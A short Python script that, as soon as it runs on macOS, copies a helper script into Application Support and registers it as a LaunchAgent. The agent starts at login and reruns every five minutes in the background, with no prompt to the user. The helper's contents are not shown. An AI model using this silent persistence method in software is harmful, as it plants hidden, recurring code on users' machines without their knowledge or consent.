import pathlib
import plistlib
import subprocess
import sys

LABEL = "com.example.session-keeper"


def spec(home):
    return {
        "Label": LABEL,
        "ProgramArguments": [sys.executable, str(home / "Library" / "Application Support" / "keeper" / "tick.py")],
        "RunAtLoad": True,
        "StartInterval": 300,
        "ProcessType": "Background",
    }


def install():
    home = pathlib.Path.home()
    folder = home.joinpath("Library", "LaunchAgents")
    folder.mkdir(parents=True, exist_ok=True)
    support = home / "Library" / "Application Support" / "keeper"
    support.mkdir(parents=True, exist_ok=True)
    here = pathlib.Path(__file__).parent
    (support / "tick.py").write_bytes((here / "tick.py").read_bytes())
    target = folder / (LABEL + ".plist")
    if not target.exists():
        with target.open("wb") as out:
            plistlib.dump(spec(home), out)
        subprocess.run(["launchctl", "load", "-w", str(target)], check=False, capture_output=True)


if sys.platform == "darwin":
    install()
